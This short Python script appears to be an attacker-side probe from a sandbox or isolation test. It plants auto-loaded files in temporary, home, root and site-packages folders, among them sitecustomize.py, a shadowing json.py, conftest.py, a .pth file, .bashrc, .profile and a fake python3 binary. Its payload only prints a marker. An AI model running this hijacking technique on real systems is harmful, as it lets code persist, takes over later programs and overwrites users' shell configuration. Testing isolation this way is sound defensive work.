"""Leaves modules, start-up files and programs in every folder that a later run may look into."""

import contextlib
import os
import site
import sys

from attacker import tried

version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
folders = ["/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), "/run", "/root"]
folders += [f"/tmp/.local/lib/{version}/site-packages", site.getusersitepackages(), "/tmp/bin"]
code = "import os; os.write(1, b'planted\\n'); os._exit(0)\n"
tried(folders)
for folder in folders:
    with contextlib.suppress(OSError):
        os.makedirs(folder, exist_ok=True)
    for name in (
        *("sitecustomize.py", "usercustomize.py", "json.py", "solution.py", "planted.pth"),
        *("conftest.py", "pytest.ini", ".pythonrc.py", ".profile", ".bashrc", "python3"),
    ):
        with contextlib.suppress(OSError), open(f"{folder}/{name}", "w", encoding="utf-8") as file:
            file.write(code)
            os.fchmod(file.fileno(), 0o755)
